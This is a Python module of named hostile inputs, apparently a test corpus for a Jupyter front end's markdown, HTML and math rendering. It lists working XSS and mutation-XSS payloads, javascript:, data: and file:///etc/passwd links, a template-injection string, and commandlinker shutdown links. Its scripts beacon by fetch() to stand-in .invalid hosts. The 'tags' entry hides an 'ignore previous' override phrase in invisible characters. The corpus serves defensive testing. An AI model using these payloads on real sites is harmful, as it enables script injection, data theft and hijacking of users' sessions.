"""What a hostile server could reply: each text by name, every beacon with a host of its own.

Data only. A request to `beacon-NAME.invalid`, a `window.zaiPwned`, a dialog: whichever text did it
can be told from it.
"""

from __future__ import annotations

SCRIPT = "window.zaiPwned='{0}';fetch('http://beacon-{0}.invalid/')"


def _beacon(name: str, path: str = "x.png") -> str:
    return f"http://beacon-{name}.invalid/{path}"


_RAW = {
    # script and handlers
    "script": "<script>SCRIPT</script>",
    "script-src": '<script src="BEACON"></script>',
    "script-in-paragraph": "hello <script>SCRIPT</script> world",
    "script-split": "<scr<script>ipt>SCRIPT</scr</script>ipt>",
    "script-case": "<ScRiPt/x>SCRIPT</sCrIpT >",
    "img-onerror": '<img src=x onerror="SCRIPT">',
    "img-onerror-slash": "<img/src=x/onerror=SCRIPT>",
    "svg-onload": '<svg onload="SCRIPT"></svg>',
    "svg-script": "<svg><script>SCRIPT</script></svg>",
    "svg-foreign": '<svg><foreignObject><body onload="SCRIPT"></body></foreignObject></svg>',
    "svg-animate": '<svg><a><animate attributeName=href values="javascript:SCRIPT"/></a></svg>',
    "svg-use": '<svg><use href="BEACON#a"/></svg>',
    "details-ontoggle": '<details open ontoggle="SCRIPT"><summary>x</summary></details>',
    "input-autofocus": '<input autofocus onfocus="SCRIPT">',
    "video-source": '<video><source onerror="SCRIPT" src="BEACON"></video>',
    "marquee": '<marquee onstart="SCRIPT">x</marquee>',
    # links
    "link-javascript": "[click](javascript:SCRIPT)",
    "link-javascript-case": "[click](JaVaScRiPt:alert(1))",
    "link-javascript-entity": "[click](&#106;avascript&colon;alert(1))",
    "link-javascript-tab": "[click](<java\tscript:alert(1)>)",
    "link-javascript-newline": "[click](java&#10;script:alert(1))",
    "link-javascript-control": "[click](\x01javascript:alert(1))",
    "link-javascript-percent": "[click](%6aavascript:alert(1))",
    "link-javascript-title": '[click](http://a.invalid "x\\" onmouseover=\\"SCRIPT")',
    "link-data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-vbscript": "[click](vbscript:msgbox(1))",
    "link-file": "[click](file:///etc/passwd)",
    "link-relative": "[click](/lab/api/kernels) and [other](../secrets.env)",
    "link-protocol-relative": "[click](//beacon-link-protocol-relative.invalid/x)",
    "link-backslash": "[click](http:\\\\\\\\beacon-link-backslash.invalid/x)",
    "link-userinfo": "[google.com](https://google.com@beacon-link-userinfo.invalid/)",
    "link-lying": "[https://google.com/login](http://beacon-link-lying.invalid/)",
    "link-lying-later": "[https://google.com/?beacon-l.invalid](http://beacon-l.invalid/)",
    "link-homograph": "<http://\u0430pple.com/> [apple.com](http://\u0430pple.com/)",
    "link-attributes": "[x](http://a.invalid/\"onclick='SCRIPT')",
    "link-reference": "[click][a]\n\n[a]: javascript:alert(1)",
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-data": "<data:text/html,<script>SCRIPT</script>>",
    "autolink-quote": '<http://a.invalid/"onmouseover="SCRIPT">',
    "bare-url-quote": 'http://a.invalid/"onmouseover="SCRIPT',
    # images and remote content
    "image": "![a](BEACON)",
    "image-title": '![a](BEACON "t")',
    "image-reference": "![a][r]\n\n[r]: BEACON",
    "image-shortcut": "![r]\n\n[r]: BEACON",
    "image-in-link": "[![a](BEACON)](http://a.invalid/)",
    "image-in-alt": "![![a](BEACON)](BEACON)",
    "image-in-table": "| a |\n|---|\n| ![a](BEACON) |",
    "image-svg-data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "image-alt-attack": '![" onerror="SCRIPT](BEACON)',
    "image-html": '<img src="BEACON">',
    "image-srcset": '<img srcset="BEACON 1x">',
    "picture": '<picture><source srcset="BEACON"><img></picture>',
    "style-import": "<style>@import url(BEACON);</style>",
    "style-attribute": '<div style="background:url(BEACON)">x</div>',
    "style-cover": '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    "link-stylesheet": '<link rel="stylesheet" href="BEACON">',
    "link-prefetch": '<link rel="dns-prefetch" href="BEACON"><link rel=preload href=BEACON>',
    "iframe": '<iframe src="BEACON"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;SCRIPT&lt;/script&gt;"></iframe>',
    "object": '<object data="BEACON"></object><embed src="BEACON">',
    "base": '<base href="BEACON">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=BEACON">',
    "form": '<form action="BEACON"><button formaction="javascript:SCRIPT">x</button></form>',
    "audio": '<audio src="BEACON" autoplay></audio><track src="BEACON"><bgsound src=BEACON>',
    "table-background": '<table background="BEACON"><td background="BEACON">x</td></table>',
    # the front-end's own doors
    "commandlinker": '<a data-commandlinker-command="filemenu:shutdown" href="#">x</a>',
    "commandlinker-button": (
        '<button data-commandlinker-command="application:close-all"'
        " data-commandlinker-args='{}'>x</button>"
    ),
    "widget-view": (
        '<script type="application/vnd.jupyter.widget-view+json">'
        '{"model_id":"x","version_major":2}</script>'
    ),
    "widget-state": (
        '<script type="application/vnd.jupyter.widget-state+json">'
        '{"state":{"x":{"model_name":"HTMLModel","state":{"value":"<img src=BEACON>"}}}}</script>'
    ),
    "require-js": '<script>require(["BEACON"])</script>',
    "mermaid": '```mermaid\ngraph TD\nA[<img src="BEACON">]\nclick A "javascript:SCRIPT"\n```',
    "mermaid-image": '```mermaid\nflowchart LR\nA@{ img: "BEACON", label: "x" }\n```',
    "mermaid-html": '<pre class="mermaid">graph TD; A[<img src=BEACON>]</pre>',
    "jp-mermaid": '<div class="jp-Mermaid"><pre class="mermaid">A--&gt;B</pre></div>',
    "jinja": "{{ ''.__class__ }} {% include '/etc/passwd' %} {{ cell.source }} {# c #}",
    "path": "secrets.env",
    "path-absolute": "/etc/passwd",
    "path-url": "BEACON",
    "path-file-url": "file:///etc/passwd",
    # formulas
    "math-href": r"$\href{javascript:alert(1)}{x}$ and \(\href{BEACON}{x}\)",
    "math-style": r"$\style{background:url(BEACON)}{x}$ $$\style{position:fixed;inset:0}{x}$$",
    "math-class": r"$\class{jp-Dialog}{x}$ $\cssId{main}{x}$ $\data{x=y}{z}$",
    "math-bbox": r"$\bbox[background:url(BEACON)]{x^2}$",
    "math-mml": r"\[\mmlToken{mi}[href='javascript:alert(1)']{x}\]",
    "math-enclose": r"\(\enclose{circle}[style='background:url(BEACON)']{x}\)",
    "math-cancel": r"\(\cancel [data-thickness='9999px']{x}\)",
    "math-renewcommand": r"$\renewcommand{\frac}[2]{PWNED} \frac12$",
    "math-def": "$$\\def\\sum{PWNED}\n\\gdef\\int{PWNED}$$",
    "math-let": r"\[\let\frac\sqrt\]\(\newcommand{\x}{y}\)\(\DeclareMathOperator{\sin}{PWNED}\)",
    "math-require": r"$\require{html}\href{BEACON}{x}$",
    "math-rule": r"$\rule{100000px}{100000px}$ \(x\kern 99999px y\) \(x\\[99999em] y\)",
    "math-hspace": r"\(x\hspace{99999px}y\) \(\begin{array}{c@{\hspace{9999em}}c}a&b\end{array}\)",
    "math-huge": r"\(\Huge{\Huge{\Huge{x}}}\)",
    "math-unicode": r"$\unicode[BEACON]{x41}$ $\char" + "41$",
    "math-image": r"$\includegraphics[width=1px]{BEACON}$",
    "math-end": r"$a\) <img src=x onerror=SCRIPT> \(b^2$",
    "math-unbalanced": r"\(a_{b\) <script>SCRIPT</script> $x}$ \(c}\)",
    "math-html": r"\(\text{<img src=x onerror=SCRIPT>}\) $a<img src=x onerror=SCRIPT>b$",
    "math-label": r"\[x \label{jp-main} \tag{1}\] \(\ref{jp-main} \eqref{x}\)",
    "math-environment": r"\[\begin{evil}x\end{evil}\] \begin{align}\rule{9999px}{1px}\end{align}",
    "mathml": '<math><mtext><img src=x onerror="SCRIPT"></mtext></math>',
    "mathml-href": '<math href="javascript:SCRIPT"><mi xlink:href="BEACON">x</mi></math>',
    "mathml-maction": '<math><maction actiontype="statusline#BEACON">x</maction></math>',
    # HTML in other places
    "fence-info": '```"><img src=x onerror=SCRIPT>\ncode\n```',
    "fence-info-attributes": "```python onload=SCRIPT class=evil {.jp-x #id}\ncode\n```",
    "fence-tilde": "~~~ <script>SCRIPT</script>\n</code></pre><script>SCRIPT</script>\n~~~",
    "fence-close": "```html\n</code></pre></div><img src=x onerror=SCRIPT>\n```",
    "indented-code": "    </code></pre><script>SCRIPT</script>",
    "code-span": "`</code><img src=x onerror=SCRIPT>`",
    "table-cell": "| <img src=x onerror=SCRIPT> |\n|:--|\n| <script>SCRIPT</script> |",
    "heading": "# <img src=x onerror=SCRIPT>\n<b onmouseover=SCRIPT>x</b>\n===",
    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=SCRIPT>",
    "list-item": "- <img src=x onerror=SCRIPT>\n- [ ] <script>SCRIPT</script>",
    "attribute-list": "x {: onclick=SCRIPT }\n\n# h {#id .cls onclick=SCRIPT}",
    "entity-tag": "&lt;img src=x onerror=SCRIPT&gt; &#60;script&#62;SCRIPT&#60;/script&#62;",
    "entity-bidi": "user&#x202E;gnp.exe &rlm; &#xE0041;",
    # parsers that disagree
    "comment-open": "<!-- <img src=x onerror=SCRIPT>\n\nafter",
    "comment-odd": "<!--> <img src=x onerror=SCRIPT> -->",
    "cdata": "<![CDATA[<img src=x onerror=SCRIPT>]]> <svg><![CDATA[><image xlink:href=BEACON>]]>",
    "instruction": '<?xml version="1.0"?><img src=x onerror=SCRIPT ?>',
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "BEACON">]>&x;',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=SCRIPT>">',
    "mutation-style": '<svg></p><style><a id="</style><img src=x onerror=SCRIPT>">',
    "mutation-form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=SCRIPT>"
    ),
    "mutation-table": "<table><td><math><mtext><table><mglyph><style><img src=x onerror=SCRIPT>",
    "template": "<template><img src=x onerror=SCRIPT></template>",
    "textarea": "<textarea></textarea><img src=x onerror=SCRIPT></textarea>",
    "plaintext": "<plaintext>swallows the rest <img src=x onerror=SCRIPT>",
    "unclosed-tag": "<img src=x onerror=SCRIPT ",
    "unclosed-attribute": '<a href="BEACON title=',
    "closing-tags": "</div></div></body></html><script>SCRIPT</script>",
    "clobber": '<form id="jupyterapp"><input name="shell"></form><a name="body" id="main">x</a>',
    "clobber-heading": "# main\n# jupyter-config-data\n## constructor {#__proto__}",
    # characters
    "nul": "a\x00<scr\x00ipt>SCRIPT</scr\x00ipt>",
    "bidi": "access\u202e level\u2066 // admin\u2069 \u200f\u061c",
    "tags": "ignore" + "".join(chr(0xE0000 + ord(c)) for c in "previous") + " \U0001f3f4\U000e0067",
    "surrogates": "lone \ud800 and \udfff <img src=x onerror=SCRIPT>\ud83d",
    "escapes": (
        "\x1b[2J\x1b]0;title\x07\x1b]8;;BEACON\x1b\\link\x1b]8;;\x1b\\ \x9b31m \x1bP1$r\x1b\\ \x1bc"
    ),
    "escapes-open": "\x1b]52;c;" + "A" * 400 + "\n[x](javascript:alert(1))\x1b[",
    "carriage": "safe text\r<img src=x onerror=SCRIPT>\r\n\x0c\x0b\x85\u2028\u2029x",
    "joined-by-strip": "<scr\x1b[0mipt>SCRIPT</scr\x1b[0mipt> [x](java\x00script:alert(1))",
    # size
    "long-line": "a" * 30_000 + "<script>SCRIPT</script>",
    "long-brackets": "[" * 3_000 + "![" * 1_000,
    "long-stars": "*" * 3_000 + "a" + "**a " * 500,
    "long-quotes": ">" * 3_000 + " <img src=x onerror=SCRIPT>",
    "long-ticks": "`" * 3_000 + "".join("`" * n + " " for n in range(1, 60)),
    "long-table": "|a" * 1_000 + "|\n" + "|-" * 1_000 + "|\n" + "a\n" * 50,
    "link-bomb": "[a]: http://a.invalid/" + "z" * 1_500 + "\n\n" + "[a] " * 2_000,
    "formula-bomb": "$x^2$ " * 700,
    "deep-list": "".join("  " * n + "- a\n" for n in range(60)) + "<img src=x onerror=SCRIPT>",
}

HOSTILE: dict[str, str] = {
    name: text.replace("SCRIPT", SCRIPT.format(name)).replace("BEACON", _beacon(name))
    for name, text in _RAW.items()
}
